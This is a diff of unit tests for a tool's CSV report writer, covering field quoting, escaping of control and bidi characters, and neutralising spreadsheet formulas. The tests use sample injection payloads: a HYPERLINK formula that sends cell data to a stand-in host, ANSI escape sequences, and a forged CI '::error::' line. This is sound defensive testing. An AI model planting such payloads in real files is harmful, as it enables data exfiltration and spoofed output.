@@ -17,13 +17,25 @@ describe('-f csv', () => {
     ]);
   });
 
-  it('quotes fields with commas, quotes and line breaks', () => {
-    const f = { ...cellFinding, message: 'Ghi "Có", không ghi\n"Không"' };
-    expect(joined(csv(resultOf([f]), ctx)).split('\r\n')[1]).toContain(',"Ghi ""Có"", không ghi\n""Không""",');
+  it('quotes fields with commas and quotes', () => {
+    const f = { ...cellFinding, message: 'Ghi "Có", không ghi "Không"' };
+    expect(joined(csv(resultOf([f]), ctx)).split('\r\n')[1]).toContain(',"Ghi ""Có"", không ghi ""Không""",');
   });
 
-  it('neutralises a value that Excel would run as a formula (=, +, -, @, tab, carriage return) with an apostrophe', () => {
-    const formulas = ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', '+1+2', '-3', '@SUM(A1)', '\t=1', '\r=1'];
+  it("writes control, bidi and line-break characters as codes: no line of the report is the input's", () => {
+    const f = { ...cellFinding, value: 'A\u001b[8m\u202eB\n::error::x\r\u009b2J', sheet: 'Danh\u2028sách' };
+    const out = joined(csv(resultOf([f]), ctx));
+    expect(out.split('\r\n')).toHaveLength(3);
+    expect(out).not.toMatch(/[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2028\u2029]/);
+    const rows: string[][] = parse(out.slice(1));
+    expect(rows[1][1]).toBe('Danh\\u{2028}sách');
+    expect(rows[1][8]).toBe('A\\u{1B}[8m\\u{202E}B\\u{A}::error::x\\u{D}\\u{9B}2J');
+    // What needs no code is kept as it is.
+    expect(rows[1][7]).toBe(cellFinding.message);
+  });
+
+  it('neutralises a value that Excel would run as a formula (=, +, -, @; a tab or carriage return is written as a code) with an apostrophe', () => {
+    const formulas = ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', '+1+2', '-3', '@SUM(A1)'];
     const out = joined(csv(resultOf(formulas.map((value, i) => ({ ...cellFinding, row: 10 + i, value }))), ctx));
     const rows: string[][] = parse(out.slice(1));
     expect(rows.slice(1).map((r) => r[8])).toEqual(formulas.map((v) => `'${v}`));
